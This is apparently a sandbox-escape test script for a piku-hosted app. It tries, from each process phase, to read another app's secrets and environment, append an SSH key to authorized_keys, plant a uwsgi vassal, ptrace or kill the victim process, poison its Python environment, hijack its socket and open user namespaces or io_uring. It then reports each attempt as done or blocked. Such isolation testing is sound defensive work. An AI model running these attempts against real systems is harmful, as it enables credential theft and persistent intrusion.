"""What a hostile app tries from each of its processes: python attack.py PHASE.

Each attempt prints one line, 'ATTACK PHASE NAME: done ...' or 'ATTACK PHASE NAME: blocked ...',
and the report goes to the app's data folder (or, in the build, which cannot write there, the
release). What it read is printed, so a leak shows in the output."""
import ctypes
import glob
import json
import os
import signal
import socket
import sys

phase = sys.argv[1]
root = os.environ["PIKU_ROOT"]
victim = os.environ.get("VICTIM", "victim")
pid = int(os.environ.get("VICTIM_PID") or 0)
lines = []


def attempt(name, action):
    try:
        result = action()
        lines.append(f"ATTACK {phase} {name}: done {result!r}"[:2000])
    except Exception as error:
        lines.append(f"ATTACK {phase} {name}: blocked ({type(error).__name__}: {error})")


def read(pattern):
    paths = sorted(glob.glob(pattern))
    if not paths:
        raise FileNotFoundError(f"nothing at {pattern}")
    with open(paths[0], "rb") as handle:
        return handle.read(4096).decode(errors="replace")


def append(path, text):
    with open(path, "a") as handle:
        handle.write(text)
    return "appended"


def append_any(pattern, text):
    paths = sorted(path for path in glob.glob(pattern, recursive=True) if os.path.isfile(path))
    if not paths:
        raise FileNotFoundError(f"nothing at {pattern}")
    return append(paths[0], text)


def ptrace(target):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, target, 0, 0) != 0:          # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    libc.ptrace(17, target, 0, 0)                   # PTRACE_DETACH
    return "attached"


def new_user_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:               # CLONE_NEWUSER: a way to more privileges inside
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "made one"


def plant_socket_link():
    """Make the socket piku's front and nginx connect to for this app a link to the victim's."""
    runtime = f"{root}/uwsgi/{os.environ['APP']}"
    if os.path.islink(f"{runtime}/slot.1.sock"):        # the live one, where piku's records show
        target = os.path.join(runtime, os.readlink(f"{runtime}/slot.1.sock"))
    else:                                               # else the one of its own generation
        own = sorted(glob.glob(f"{runtime}/g*/web.1.sock"), key=os.path.getmtime)
        if not own:
            raise FileNotFoundError("no socket of its own in sight")
        target = own[-1]
    os.symlink(os.environ["VICTIM_SOCKET"], target + ".new")
    os.replace(target + ".new", target)
    return "replaced"


def io_uring():
    """An io_uring could make a symbolic link where seccomp does not look."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(425, 8, ctypes.create_string_buffer(120))        # io_uring_setup
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(fd)
    return "set up"


def reach_outside():
    address = socket.getaddrinfo("localhost", int(os.environ["PROBE_PORT"]), socket.AF_INET)[0][4]
    with socket.create_connection(address, timeout=5) as connection:
        return connection.recv(64).decode()


attempt("read-ENV", lambda: read(f"{root}/envs/{victim}/ENV"))
attempt("read-LIVE_ENV", lambda: read(f"{root}/envs/{victim}/LIVE_ENV"))
attempt("read-repo", lambda: read(f"{root}/repos/{victim}/config"))
attempt("read-release", lambda: read(f"{root}/releases/{victim}/*/secret.txt"))
attempt("read-data", lambda: read(f"{root}/data/{victim}/secret.txt"))
attempt("read-keys", lambda: read(os.path.expanduser("~/.ssh/authorized_keys")))
attempt("append-keys", lambda: append(os.path.expanduser("~/.ssh/authorized_keys"), "ssh-ed25519 AAAAintruder\n"))
attempt("rewrite-piku", lambda: append(os.environ["PIKU_SCRIPT_PATH"], "\n# intruder was here\n"))
attempt("write-vassal", lambda: append(f"{root}/uwsgi-enabled/{victim}@g99.web.1.ini",
                                       "[uwsgi]\nattach-daemon = touch /tmp/evil\n"))
attempt("read-environ", lambda: open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
attempt("ptrace", lambda: ptrace(pid))
attempt("kill", lambda: os.kill(pid, signal.SIGKILL) or "killed")
attempt("edit-own-env", lambda: append_any(f"{root}/envs/{os.environ['APP']}/python-*/pyvenv.cfg", "#\n"))
attempt("edit-victim-env", lambda: append_any(f"{root}/envs/{victim}/python-*/**/*.py", "\nprint('POISONED')\n"))
attempt("edit-victim-cache", lambda: append_any(f"{root}/uv/{victim}/**/*.py", "\nprint('POISONED')\n"))
attempt("new-userns", new_user_namespace)
if phase in ("cron", "run"):        # (the web worker's own start would fail its health check)
    attempt("plant-socket-link", plant_socket_link)
if phase in ("web", "cron"):        # workers
    attempt("io-uring", io_uring)
attempt("reach-outside", reach_outside)
report = "\n".join(lines) + "\n"
sys.stdout.write(report)
sys.stdout.flush()
for folder in (os.environ.get("DATA_ROOT", ""), os.getcwd()):
    try:
        with open(os.path.join(folder, f"report-{phase}.txt"), "a") as handle:
            handle.write(report)
        break
    except OSError:
        continue
